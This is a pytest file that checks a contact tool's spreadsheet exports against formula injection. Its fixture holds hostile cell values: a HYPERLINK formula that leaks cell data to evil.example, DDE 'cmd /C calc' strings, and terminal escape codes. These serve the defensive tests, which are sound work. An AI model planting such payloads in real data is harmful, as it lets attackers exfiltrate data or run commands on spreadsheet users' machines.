"""Exported spreadsheets never run what a contact's fields say: no formula cells in the XLSX,
formula-like CSV cells neutralised, phone numbers still readable, control characters removed."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from petdesk import models as m
from petdesk.cli import main
from petdesk.models.enums import ChannelLabel, ContactChannel

HOSTILE = {
    "family_name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "given_name": "+cmd|' /C calc'!A0",
    "honorific_en": "-2+3+cmd|' /C calc'!A0",
    "notes": "@SUM(1+1)*cmd|' /C calc'!A0",
    "dietary_needs": "\tcmd",
    "emergency_contact": "bell\x07 and escape\x1b[2J",
}


@pytest.fixture
def hostile_db(db, tmp_path: Path):  # type: ignore[no-untyped-def]
    with db.transaction() as s:
        contact = m.Contact(**HOSTILE)
        s.add(contact)
        s.flush()
        s.add(m.ContactMethod(contact_id=contact.id, channel=ContactChannel.PHONE, label=ChannelLabel.WORK,
                              value="+86 10 6532 1234"))  # fmt: skip
    return db


def test_xlsx_has_no_formula_cells(hostile_db, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from openpyxl import load_workbook

    out = tmp_path / "c.xlsx"
    assert main(["--db", str(hostile_db.path), "export-contacts", "--out", str(out)]) == 0
    assert "control characters were removed from 1 cell" in capsys.readouterr().err
    sheet = load_workbook(out).active
    values = []
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.value
            values.append(cell.value)
    assert HOSTILE["family_name"] in values  # kept as text, shown as written
    assert "+86 10 6532 1234" in values
    assert "bell and escape[2J" in values
    assert not list(tmp_path.glob(".*.part"))


def test_csv_cells_are_not_evaluated(hostile_db, tmp_path: Path) -> None:
    out = tmp_path / "c.csv"
    assert main(["--db", str(hostile_db.path), "export-contacts", "--out", str(out)]) == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    cells = [v for row in rows for v in row.values() if v]
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")) or cell == "+86 10 6532 1234", cell
        assert not (cell.startswith("-") and "cmd" in cell), cell
    assert "'" + HOSTILE["family_name"] in cells
    assert "+86 10 6532 1234" in cells  # a phone number stays readable
    assert "bell and escape[2J" in cells


def test_failed_export_leaves_no_part_file(
    hostile_db, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "out"
    folder.mkdir()
    target = folder / "c.csv"
    target.mkdir()  # the rename onto a folder fails
    assert main(["--db", str(hostile_db.path), "export-contacts", "--out", str(target)]) == 1
    err = capsys.readouterr().err
    assert "Traceback" not in err
    assert [line for line in err.splitlines() if "error" in line] == [err.splitlines()[-1]]
    assert [p.name for p in folder.iterdir()] == ["c.csv"]
